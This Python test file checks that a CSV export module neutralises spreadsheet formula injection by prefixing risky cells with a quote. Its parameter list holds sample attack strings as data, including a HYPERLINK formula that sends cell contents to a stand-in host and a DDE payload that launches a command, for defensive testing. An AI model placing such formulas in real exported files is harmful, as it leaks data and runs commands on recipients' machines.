from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from activation.delivery.csv_export import safe_cell, write_csv


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://x.example?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u200b=1+1",
        "\ufeff@x",
        "\uff1d1+1",
        "\u00a0-1",
        "\u202e=1",
    ],
)
def test_formula_is_escaped(attack: str) -> None:
    assert safe_cell(attack) == f"'{attack}"


@pytest.mark.parametrize("harmless", ["Ana", "a=b", "1-2", "'=1", "", "mail@x.example"])
def test_harmless_text_is_unchanged(harmless: str) -> None:
    assert safe_cell(harmless) == harmless


def test_numbers_are_unquoted_and_texts_are_quoted(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    row = (-5, Decimal("-1234567890123456.78"), 2.5, "-5", True, None, date(2026, 3, 1))

    write_csv(path, [f"c{n}" for n in range(len(row))], [row])

    assert path.read_text().splitlines()[1] == (
        '-5,-1234567890123456.78,2.5,"\'-5","true","","2026-03-01"'
    )
    assert path.stat().st_mode & 0o777 == 0o600


def test_non_finite_numbers_are_text() -> None:
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(Decimal("NaN")) == "NaN"
    assert safe_cell(datetime(2026, 3, 1, tzinfo=UTC)) == "2026-03-01T00:00:00+00:00"


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_any_text_round_trips_and_is_no_formula(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    write_csv(path, [f"c{n}" for n in range(len(texts))], [texts])

    with path.open(encoding="utf-8", newline="") as file:
        _, found = csv.reader(file)

    for text, cell in zip(texts, found, strict=True):
        clean = text.encode("utf-8", "replace").decode()
        assert cell in (clean, f"'{clean}")
        assert not cell.lstrip().startswith(("=", "+", "-", "@"))
